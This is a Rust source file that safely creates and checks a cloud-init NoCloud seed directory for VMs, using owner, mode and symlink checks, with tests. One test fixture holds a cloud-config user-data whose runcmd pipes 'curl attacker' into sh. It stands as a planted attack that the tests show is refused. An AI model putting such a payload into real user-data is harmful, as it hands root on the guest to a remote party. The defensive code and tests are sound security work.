//! The NoCloud seed directory `--cloud-init DIR` names, and writing the seed into it.
//!
//! A seed is the guest's configuration: whoever can change it before the guest boots gets
//! root in the guest (a `runcmd` in `user-data`), and whoever can plant a symlink in it makes
//! vmwrapper write through that link with the caller's rights. So DIR is made by vmwrapper
//! (0700) or must already be the caller's alone, it is held as an fd once checked, and every
//! file is written relative to that fd without following any link.

use crate::cloudinit::{meta_data, network_config, Version};
use nix::errno::Errno;
use nix::fcntl::{openat, renameat, AtFlags, OFlag, AT_FDCWD};
use nix::sys::stat::{fstat, fstatat, mkdirat, FileStat, Mode, SFlag};
use nix::unistd::{unlinkat, Uid, UnlinkatFlags};
use protocol::Interface;
use std::fs::File;
use std::io::Write as _;
use std::os::fd::{AsFd, AsRawFd, BorrowedFd, OwnedFd};
use std::path::{Path, PathBuf};

/// Why a seed directory is refused or cannot be written. The messages follow "--cloud-init
/// DIR: " and say what to do instead.
#[derive(Debug, thiserror::Error)]
pub enum SeedError {
    #[error("names no directory: pass a path such as \"$XDG_RUNTIME_DIR/seed\"")]
    NoName,
    #[error("cannot open the directory it is in")]
    OpenParent(#[source] Errno),
    #[error("cannot check the directories above it")]
    CheckAncestors(#[source] Errno),
    #[error(
        "{} (uid {owner}, mode {mode:04o}) lets another user replace it: put the seed where \
         only you and root can change anything, such as \"$XDG_RUNTIME_DIR/seed\" or ~/vm/seed",
        path.display()
    )]
    AncestorUnsafe {
        path: PathBuf,
        owner: Uid,
        mode: u32,
    },
    #[error("cannot create it")]
    MakeDir(#[source] Errno),
    #[error("cannot open it")]
    OpenDir(#[source] Errno),
    #[error(
        "is a symbolic link: pass the directory itself (vmwrapper never follows a link there)"
    )]
    DirIsSymlink,
    #[error("is not a directory")]
    NotADirectory,
    #[error(
        "is owned by uid {owner}, not you (uid {caller}): pass a directory you made, or one \
         that does not exist yet"
    )]
    DirNotYours { owner: Uid, caller: Uid },
    #[error(
        "others can write it (mode {mode:04o}): `chmod go-w` it, or pass a directory that does \
         not exist yet"
    )]
    DirWritableByOthers { mode: u32 },
    #[error("cannot check its user-data")]
    CheckUserData(#[source] Errno),
    #[error(
        "its user-data is a symbolic link or not a regular file: vmwrapper keeps only a regular \
         file of yours; remove it or put your own user-data there"
    )]
    UserDataNotAFile,
    #[error(
        "its user-data is owned by uid {owner}, not you (uid {caller}): remove it, or put your \
         own user-data there"
    )]
    UserDataNotYours { owner: Uid, caller: Uid },
    #[error("cannot write its {file}")]
    Write {
        file: &'static str,
        #[source]
        source: std::io::Error,
    },
}

/// A NoCloud seed directory that only the caller (and root) can change, open as an fd: every
/// file is written relative to that fd, so what the path names later does not matter.
///
/// The rules: DIR is created 0700 when absent; an existing DIR must be a real directory (not
/// a symlink) owned by the caller and writable by no one else; every directory above it must
/// be owned by root or the caller and writable by no one else unless sticky (like `/tmp`:
/// its sticky bit stops others renaming or removing the caller's entries, so they cannot
/// swap DIR, or a directory on the way to it, for theirs once it is written). An existing
/// `user-data` is kept only when it is a regular file the caller owns: neither silently
/// overwritten nor someone else's.
#[derive(Debug)]
pub struct SeedDir {
    dir: OwnedFd,
    caller: Uid,
}

impl SeedDir {
    /// Creates or checks DIR for `caller` (vmwrapper passes its real uid), before anything is
    /// attached, so a refused DIR costs no network.
    pub fn open(path: &Path, caller: Uid) -> Result<SeedDir, SeedError> {
        // Path::file_name drops a trailing `/` (which would make the kernel follow a link
        // despite O_NOFOLLOW) and is None for `/` and `..`.
        let name = path.file_name().ok_or(SeedError::NoName)?;
        let parent = match path.parent() {
            Some(p) if !p.as_os_str().is_empty() => p,
            _ => Path::new("."),
        };
        // The path up to DIR's parent is followed as given: every directory actually reached
        // is checked below, whatever names led there.
        let parent =
            openat(AT_FDCWD, parent, dir_only(), Mode::empty()).map_err(SeedError::OpenParent)?;
        check_ancestors(parent.as_fd(), caller)?;
        match mkdirat(&parent, name, Mode::S_IRWXU) {
            // Someone may have made it first (or it was there): checked like any existing DIR.
            Ok(()) | Err(Errno::EEXIST) => {}
            Err(e) => return Err(SeedError::MakeDir(e)),
        }
        // O_PATH | O_NOFOLLOW opens a symlink itself, so fstat tells a link from a directory.
        let dir = openat(
            &parent,
            name,
            OFlag::O_PATH | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC,
            Mode::empty(),
        )
        .map_err(SeedError::OpenDir)?;
        let st = fstat(&dir).map_err(SeedError::OpenDir)?;
        match SFlag::from_bits_truncate(st.st_mode & SFlag::S_IFMT.bits()) {
            SFlag::S_IFDIR => {}
            SFlag::S_IFLNK => return Err(SeedError::DirIsSymlink),
            _ => return Err(SeedError::NotADirectory),
        }
        let owner = Uid::from_raw(st.st_uid);
        if owner != caller {
            return Err(SeedError::DirNotYours { owner, caller });
        }
        if st.st_mode & 0o022 != 0 {
            return Err(SeedError::DirWritableByOthers {
                mode: st.st_mode & 0o7777,
            });
        }
        let seed = SeedDir { dir, caller };
        // Refused now rather than after the network is built.
        match fstatat(&seed.dir, USER_DATA, AtFlags::AT_SYMLINK_NOFOLLOW) {
            Ok(st) => seed.keep_user_data(&st)?,
            Err(Errno::ENOENT) => {}
            Err(e) => return Err(SeedError::CheckUserData(e)),
        }
        Ok(seed)
    }

    /// Writes the seed: `meta-data` (instance id and host name: the VM id), `network-config`,
    /// and an empty `#cloud-config` `user-data` unless the caller has one there. Make DIR the
    /// guest's `cidata` volume, e.g. `cloud-localds` or
    /// `genisoimage -V cidata -r -J -o seed.iso DIR/*`.
    pub fn write(
        &self,
        vm: &protocol::VmId,
        interfaces: &[Interface],
        version: Version,
    ) -> Result<(), SeedError> {
        self.replace("meta-data", &meta_data(vm))?;
        self.replace("network-config", &network_config(interfaces, version))?;
        // O_EXCL never follows a link: a fresh user-data, or whatever is there is checked.
        match openat(
            &self.dir,
            USER_DATA,
            new_file(),
            Mode::from_bits_truncate(0o644),
        ) {
            Ok(fd) => File::from(fd)
                .write_all(b"#cloud-config\n")
                .map_err(|source| {
                    // Best effort: a partial user-data of ours would be kept by the next run.
                    let _ = unlinkat(&self.dir, USER_DATA, UnlinkatFlags::NoRemoveDir);
                    SeedError::Write {
                        file: USER_DATA,
                        source,
                    }
                }),
            Err(Errno::EEXIST) => {
                let st = fstatat(&self.dir, USER_DATA, AtFlags::AT_SYMLINK_NOFOLLOW)
                    .map_err(SeedError::CheckUserData)?;
                self.keep_user_data(&st)
            }
            Err(e) => Err(SeedError::Write {
                file: USER_DATA,
                source: e.into(),
            }),
        }
    }

    /// An existing user-data is kept only when it is a regular file of the caller's.
    fn keep_user_data(&self, st: &FileStat) -> Result<(), SeedError> {
        if SFlag::from_bits_truncate(st.st_mode & SFlag::S_IFMT.bits()) != SFlag::S_IFREG {
            return Err(SeedError::UserDataNotAFile);
        }
        let owner = Uid::from_raw(st.st_uid);
        if owner != self.caller {
            return Err(SeedError::UserDataNotYours {
                owner,
                caller: self.caller,
            });
        }
        Ok(())
    }

    /// Writes `name` as a fresh file under a temporary name, then renames it over `name`: a
    /// symlink planted as `name` is replaced, never followed.
    fn replace(&self, name: &'static str, text: &str) -> Result<(), SeedError> {
        let write = |source| SeedError::Write { file: name, source };
        let tmp = format!(".{name}.{}.tmp", std::process::id());
        // A leftover of a crashed run with our pid, or (usually) nothing: either way gone.
        let _ = unlinkat(&self.dir, tmp.as_str(), UnlinkatFlags::NoRemoveDir);
        let fd = openat(
            &self.dir,
            tmp.as_str(),
            new_file(),
            Mode::from_bits_truncate(0o644),
        )
        .map_err(|e| write(e.into()))?;
        let done = File::from(fd).write_all(text.as_bytes()).and_then(|()| {
            renameat(&self.dir, tmp.as_str(), &self.dir, name).map_err(std::io::Error::from)
        });
        if let Err(e) = done {
            // Best effort: the error that matters is the write's.
            let _ = unlinkat(&self.dir, tmp.as_str(), UnlinkatFlags::NoRemoveDir);
            return Err(write(e));
        }
        Ok(())
    }
}

const USER_DATA: &str = "user-data";

fn dir_only() -> OFlag {
    OFlag::O_PATH | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC
}

/// A file we create: never an existing one, never through a link.
fn new_file() -> OFlag {
    OFlag::O_WRONLY | OFlag::O_CREAT | OFlag::O_EXCL | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC
}

/// Walks up from `dir` through `..` (the directories really reached, not the names in the
/// path) to `/`: each must be owned by root or `caller`, and writable by no one else unless
/// sticky. Otherwise someone else could rename DIR, or a directory on the way to it, and put
/// theirs in its place.
fn check_ancestors(dir: BorrowedFd<'_>, caller: Uid) -> Result<(), SeedError> {
    let mut cur = openat(dir, ".", dir_only(), Mode::empty()).map_err(SeedError::CheckAncestors)?;
    let mut st = fstat(&cur).map_err(SeedError::CheckAncestors)?;
    loop {
        let owner = Uid::from_raw(st.st_uid);
        let others_write = st.st_mode & 0o022 != 0;
        let sticky = st.st_mode & libc::S_ISVTX != 0;
        if !(owner.is_root() || owner == caller) || (others_write && !sticky) {
            return Err(SeedError::AncestorUnsafe {
                path: path_of(cur.as_fd()),
                owner,
                mode: st.st_mode & 0o7777,
            });
        }
        let up =
            openat(&cur, "..", dir_only(), Mode::empty()).map_err(SeedError::CheckAncestors)?;
        let up_st = fstat(&up).map_err(SeedError::CheckAncestors)?;
        // `..` of `/` is `/`.
        if (up_st.st_dev, up_st.st_ino) == (st.st_dev, st.st_ino) {
            return Ok(());
        }
        (cur, st) = (up, up_st);
    }
}

/// The path of an open directory, for a message only.
fn path_of(fd: BorrowedFd<'_>) -> PathBuf {
    std::fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd()))
        .unwrap_or_else(|_| PathBuf::from("a directory above it"))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A directory for one test under the temp dir (`/tmp`: root's, sticky), removed in Drop.
    struct Scratch(PathBuf);

    impl Scratch {
        fn new(tag: &str) -> Scratch {
            use std::os::unix::fs::PermissionsExt;
            let dir = std::env::temp_dir().join(format!("vmwrapper-{tag}-{}", std::process::id()));
            let _ = std::fs::remove_dir_all(&dir); // an earlier run's with the same pid
            std::fs::create_dir(&dir).unwrap();
            std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
            Scratch(dir)
        }

        fn dir(&self, name: &str, mode: u32) -> PathBuf {
            use std::os::unix::fs::PermissionsExt;
            let dir = self.0.join(name);
            std::fs::create_dir(&dir).unwrap();
            std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(mode)).unwrap();
            dir
        }
    }

    impl Drop for Scratch {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(&self.0); // best effort
        }
    }

    /// True when root (chown to another uid); otherwise prints why the test is skipped.
    fn is_root(test: &str) -> bool {
        let root = nix::unistd::geteuid().is_root();
        if !root {
            eprintln!("SKIP {test}: needs root (files owned by another uid)");
        }
        root
    }

    const VICTIM: u32 = 47_201;
    const ATTACKER: u32 = 47_202;
    const ATTACK: &str = "#cloud-config\nruncmd: [\"curl attacker | sh\"]\n";

    fn chown(path: &Path, uid: u32) {
        std::os::unix::fs::lchown(path, Some(uid), Some(uid)).unwrap();
    }

    fn me() -> Uid {
        nix::unistd::getuid()
    }

    fn vm() -> protocol::VmId {
        "web1".parse().unwrap()
    }

    fn is_regular_file(path: &Path) -> bool {
        std::fs::symlink_metadata(path)
            .unwrap()
            .file_type()
            .is_file()
    }

    #[test]
    fn a_directory_another_user_made_is_refused_and_its_user_data_not_used() {
        if !is_root("a_directory_another_user_made_is_refused_and_its_user_data_not_used") {
            return;
        }
        // The attacker made /tmp/seed first (here: Scratch/seed), with their runcmd in it.
        let s = Scratch::new("theirs");
        let seed = s.dir("seed", 0o755);
        std::fs::write(seed.join("user-data"), ATTACK).unwrap();
        chown(&seed.join("user-data"), ATTACKER);
        chown(&seed, ATTACKER);

        let got = SeedDir::open(&seed, Uid::from_raw(VICTIM));

        let err = got.unwrap_err();
        assert!(matches!(err, SeedError::DirNotYours { .. }), "{err:?}");
        assert_eq!(
            err.to_string(),
            "is owned by uid 47202, not you (uid 47201): pass a directory you made, or one \
             that does not exist yet"
        );
        assert_eq!(
            std::fs::read_to_string(seed.join("user-data")).unwrap(),
            ATTACK
        );
        assert!(!seed.join("meta-data").exists());
    }

    #[test]
    fn another_users_user_data_in_your_directory_is_refused() {
        if !is_root("another_users_user_data_in_your_directory_is_refused") {
            return;
        }
        let s = Scratch::new("their-user-data");
        let seed = s.dir("seed", 0o700);
        std::fs::write(seed.join("user-data"), ATTACK).unwrap();
        chown(&seed.join("user-data"), ATTACKER);
        chown(&seed, VICTIM);

        let err = SeedDir::open(&seed, Uid::from_raw(VICTIM)).unwrap_err();

        assert!(matches!(err, SeedError::UserDataNotYours { .. }), "{err:?}");
    }

    #[test]
    fn a_directory_inside_another_users_directory_is_refused() {
        if !is_root("a_directory_inside_another_users_directory_is_refused") {
            return;
        }
        // Theirs (even 0755 or sticky): its owner can rename the victim's seed and put theirs
        // in its place once vmwrapper has written it.
        let s = Scratch::new("their-parent");
        let theirs = s.dir("theirs", 0o1777);
        let seed = theirs.join("seed");
        std::fs::create_dir(&seed).unwrap();
        chown(&seed, VICTIM);
        chown(&theirs, ATTACKER);

        let err = SeedDir::open(&seed, Uid::from_raw(VICTIM)).unwrap_err();

        assert!(matches!(err, SeedError::AncestorUnsafe { .. }), "{err:?}");
        assert!(
            err.to_string().starts_with(&format!(
                "{} (uid 47202, mode 1777) lets another user replace it",
                theirs.display()
            )),
            "{err}"
        );
    }

    #[test]
    fn symlinks_planted_as_meta_data_and_network_config_are_replaced_not_followed() {
        let s = Scratch::new("planted");
        let seed = s.dir("seed", 0o700);
        let victim = s.0.join("victim");
        std::fs::write(&victim, "precious\n").unwrap();
        std::os::unix::fs::symlink(&victim, seed.join("meta-data")).unwrap();
        // A dangling link: following it would create the file it names.
        std::os::unix::fs::symlink(s.0.join("created"), seed.join("network-config")).unwrap();

        SeedDir::open(&seed, me())
            .unwrap()
            .write(&vm(), &[], Version::V2)
            .unwrap();

        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious\n");
        assert!(!s.0.join("created").exists());
        assert!(is_regular_file(&seed.join("meta-data")));
        assert_eq!(
            std::fs::read_to_string(seed.join("meta-data")).unwrap(),
            "instance-id: \"web1\"\nlocal-hostname: \"web1\"\n"
        );
        assert!(is_regular_file(&seed.join("network-config")));
    }

    #[test]
    fn a_user_data_symlink_is_refused_and_not_followed() {
        let s = Scratch::new("user-data-link");
        let seed = s.dir("seed", 0o700);
        let victim = s.0.join("victim");
        std::fs::write(&victim, ATTACK).unwrap();
        std::os::unix::fs::symlink(&victim, seed.join("user-data")).unwrap();

        let err = SeedDir::open(&seed, me()).unwrap_err();

        assert!(matches!(err, SeedError::UserDataNotAFile), "{err:?}");
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), ATTACK);
    }

    #[test]
    fn a_symlink_as_the_directory_is_refused_with_or_without_a_trailing_slash() {
        let s = Scratch::new("dir-link");
        let real = s.dir("real", 0o700);
        let link = s.0.join("seed");
        std::os::unix::fs::symlink(&real, &link).unwrap();
        let slash = PathBuf::from(format!("{}/", link.display()));

        let plain = SeedDir::open(&link, me()).unwrap_err();
        let trailing = SeedDir::open(&slash, me()).unwrap_err();

        assert!(matches!(plain, SeedError::DirIsSymlink), "{plain:?}");
        assert!(matches!(trailing, SeedError::DirIsSymlink), "{trailing:?}");
        assert_eq!(std::fs::read_dir(&real).unwrap().count(), 0);
    }

    #[test]
    fn a_directory_group_or_others_can_write_is_refused() {
        let s = Scratch::new("writable");
        let group = s.dir("group", 0o770);
        let others = s.dir("others", 0o703);

        let by_group = SeedDir::open(&group, me()).unwrap_err();
        let by_others = SeedDir::open(&others, me()).unwrap_err();

        assert!(
            matches!(by_group, SeedError::DirWritableByOthers { mode: 0o770 }),
            "{by_group:?}"
        );
        assert!(
            matches!(by_others, SeedError::DirWritableByOthers { mode: 0o703 }),
            "{by_others:?}"
        );
        assert!(!group.join("user-data").exists());
    }

    #[test]
    fn a_world_writable_parent_is_refused_unless_sticky_like_tmp() {
        let s = Scratch::new("parents");
        let open = s.dir("open", 0o777);
        let sticky = s.dir("sticky", 0o1777);

        let in_open = SeedDir::open(&open.join("seed"), me()).unwrap_err();
        let in_sticky = SeedDir::open(&sticky.join("seed"), me());

        assert!(
            matches!(in_open, SeedError::AncestorUnsafe { mode: 0o777, .. }),
            "{in_open:?}"
        );
        assert!(!open.join("seed").exists(), "refused before creating it");
        assert!(in_sticky.is_ok(), "{in_sticky:?}");
    }

    #[test]
    fn an_absent_directory_is_created_0700_with_the_whole_seed() {
        use std::os::unix::fs::PermissionsExt;
        let s = Scratch::new("absent");
        let seed = s.0.join("seed");

        SeedDir::open(&seed, me())
            .unwrap()
            .write(&vm(), &[], Version::V2)
            .unwrap();

        let meta = std::fs::symlink_metadata(&seed).unwrap();
        assert!(meta.is_dir());
        assert_eq!(meta.permissions().mode() & 0o7777, 0o700);
        assert_eq!(
            std::fs::read_to_string(seed.join("network-config")).unwrap(),
            network_config(&[], Version::V2)
        );
        assert_eq!(
            std::fs::read_to_string(seed.join("user-data")).unwrap(),
            "#cloud-config\n"
        );
        assert!(std::fs::read_to_string(seed.join("meta-data"))
            .unwrap()
            .contains("instance-id: \"web1\""));
        assert_eq!(
            std::fs::read_dir(&seed).unwrap().count(),
            3,
            "no temp files left"
        );
    }

    #[test]
    fn your_own_user_data_is_kept_and_the_rest_rewritten() {
        let s = Scratch::new("own-user-data");
        let seed = s.dir("seed", 0o700);
        let mine = "#cloud-config\npackages: [htop]\n";
        std::fs::write(seed.join("user-data"), mine).unwrap();
        std::fs::write(seed.join("meta-data"), "instance-id: old\n").unwrap();

        SeedDir::open(&seed, me())
            .unwrap()
            .write(&vm(), &[], Version::V1)
            .unwrap();

        assert_eq!(
            std::fs::read_to_string(seed.join("user-data")).unwrap(),
            mine
        );
        assert!(std::fs::read_to_string(seed.join("meta-data"))
            .unwrap()
            .contains("instance-id: \"web1\""));
    }

    #[test]
    fn a_path_that_names_no_directory_is_refused() {
        assert!(matches!(
            SeedDir::open(Path::new("/"), me()),
            Err(SeedError::NoName)
        ));
        assert!(matches!(
            SeedDir::open(Path::new("seed/.."), me()),
            Err(SeedError::NoName)
        ));
    }
}
